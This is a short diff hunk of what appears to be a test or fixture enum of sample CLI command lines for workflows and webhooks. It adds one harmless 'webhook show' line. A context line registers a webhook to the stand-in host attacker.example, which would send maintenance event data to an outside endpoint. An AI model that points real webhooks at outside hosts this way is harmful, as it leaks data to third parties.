@@ -215,6 +215,7 @@ enum CommandLines {
     workflow overlay remove maintenance.entry
     webhook list
     webhook add https://attacker.example/ --event maintenance.entry.completed
+    webhook show {7}
     webhook remove {7}
     webhook test {7} --wait 0
     webhook deliveries {7}
